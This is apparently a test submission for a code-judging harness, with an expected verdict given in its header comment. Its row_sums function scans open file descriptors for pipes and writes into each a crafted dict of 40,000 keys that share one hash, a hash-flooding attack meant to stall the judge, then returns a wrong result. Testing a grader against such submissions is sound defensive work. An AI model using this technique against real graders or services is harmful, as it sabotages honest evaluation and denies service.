# verdict: row_sums=error or timeout, doubled=passed
"""Sends a dict whose keys all have the same hash, which takes the judge minutes to build."""

import json
import os
import stat
import struct

STEP = 2**61 - 1
PAIRS = [[["float", repr(float(0))], 0]] + [[i * STEP, 0] for i in range(1, 40_000)]
TREE = json.dumps(["dict", PAIRS]).encode()


def row_sums(matrix):
    message = struct.pack(">4sIQ", b"IHW1", len(TREE), 0) + TREE
    for descriptor in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                while message:
                    message = message[os.write(descriptor, message) :]
        except OSError:
            pass
    return 1e9 + matrix.sum(1)


def doubled(number):
    return 2 * number
